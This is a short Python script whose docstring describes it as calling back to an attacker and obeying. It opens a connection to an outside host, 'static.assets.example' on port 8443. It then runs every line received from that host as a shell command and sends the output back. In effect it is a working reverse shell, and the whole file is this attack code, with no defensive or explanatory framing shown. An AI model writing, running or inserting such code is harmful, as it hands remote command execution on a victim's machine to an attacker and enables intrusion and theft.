"""Calls back and obeys: each line from the attacker is run without a terminal, and its output goes back."""

import socket
import subprocess

with socket.create_connection(("static.assets.example", 8443), timeout=20) as home:
    for line in home.makefile():
        if line.strip() == "exit":
            break
        done = subprocess.run(line, shell=True, capture_output=True)
        home.sendall(done.stdout or b"\n")
